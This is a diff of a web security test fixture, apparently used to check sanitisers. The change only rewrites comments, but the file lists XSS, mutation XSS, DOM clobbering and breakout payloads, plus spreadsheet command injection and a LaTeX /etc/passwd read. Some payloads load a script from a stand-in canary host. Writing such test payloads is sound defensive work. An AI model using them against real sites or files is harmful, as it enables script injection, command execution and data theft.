@@ -1,9 +1,9 @@
 /**
- * Inputs that try to run a script, to call another site or to break out of where they stand, written for this suite.
- * Every payload says so itself: it marks the page, opens a dialog, or asks for an address of another site.
+ * Inputs that try to run a script, to contact another site or to break out of their context, written for this suite.
+ * A payload that runs is detectable: it marks the page, opens a dialog, or requests a URL of another site.
  */
 
-/** What a payload does once it runs. */
+/** Scripts for the payloads to run. */
 export const actions = [
   'window.__ran=1',
   'alert(1)',
@@ -14,7 +14,7 @@ export const actions = [
   'import(`https://canari.example/m.js`)',
 ];
 
-/** `#` stands for an action. */
+/** Payloads; `#` stands for one of the actions. */
 const templates = [
   // elements
   '<script>#</script>',
@@ -95,7 +95,7 @@ const templates = [
   '<portal src=https://canari.example/po></portal>',
   '<noscript><img src=x onerror=#></noscript>',
   '<a ping=https://canari.example/ping href=https://exemple.org/>x</a>',
-  // addresses
+  // URLs
   '<a href="javascript:#">x</a>',
   '<a href=" \u0001javascript:#">x</a>',
   '<a href="java\tscript:#">x</a>',
@@ -114,7 +114,7 @@ const templates = [
   'https://exemple.org/"onmouseover="#',
   "https://exemple.org/'><img src=x onerror=#>",
   'https://exemple.org/#"><script>#</script>',
-  // ways out
+  // breaking out of a tag, an attribute, a string or an encoding
   '"><script>#</script>',
   "'><script>#</script>",
   '--><script>#</script>',
@@ -150,7 +150,7 @@ const templates = [
   '\uff1cscript\uff1e#\uff1c/script\uff1e',
   '+ADw-script+AD4-#+ADw-/script+AD4-',
   '%3Cscript%3E#%3C/script%3E',
-  // texts that change when they are read a second time
+  // mutation XSS: markup that means something else when it is parsed a second time
   '<noscript><p title="</noscript><img src=x onerror=#>"></noscript>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=#&gt;">',
   '<math><mtext><mglyph><style><math><img src=x onerror=#></style></mglyph></mtext></math>',
@@ -178,11 +178,11 @@ const templates = [
   '<p title="&quot;><img src=x onerror=#>">x</p>',
   '<ol start="1&quot; onclick=#"><li>x</ol>',
   '<p lang="fr&quot; onmouseover=#" dir="&quot;><script>#</script>">x</p>',
-  // names that scripts read
+  // DOM clobbering
   '<img name=getElementById><form id=body><input name=firstChild></form>',
   '<a id=__NEXT_DATA__>x</a><a id=__next_f>x</a>',
   '<p id=contenu><form name=children><input id=attributes></form>',
-  // formats that other programs read
+  // other formats: spreadsheets, LaTeX, BibTeX, RIS, Markdown, vCard
   '=HYPERLINK("https://canari.example/","x")',
   '@SUM(1)*cmd|"/C calc"!A0',
   '\\input{/etc/passwd}\\immediate\\write18{true}',
@@ -192,7 +192,7 @@ const templates = [
   'BEGIN:VCARD\r\nURL:javascript:#\r\nEND:VCARD',
 ];
 
-/** Every template with an action. */
+/** The templates, each with the first two actions. */
 export const vectors: readonly string[] = templates.flatMap((template) =>
   template.includes('#') ? actions.slice(0, 2).map((action) => template.replaceAll('#', action)) : [template],
 );
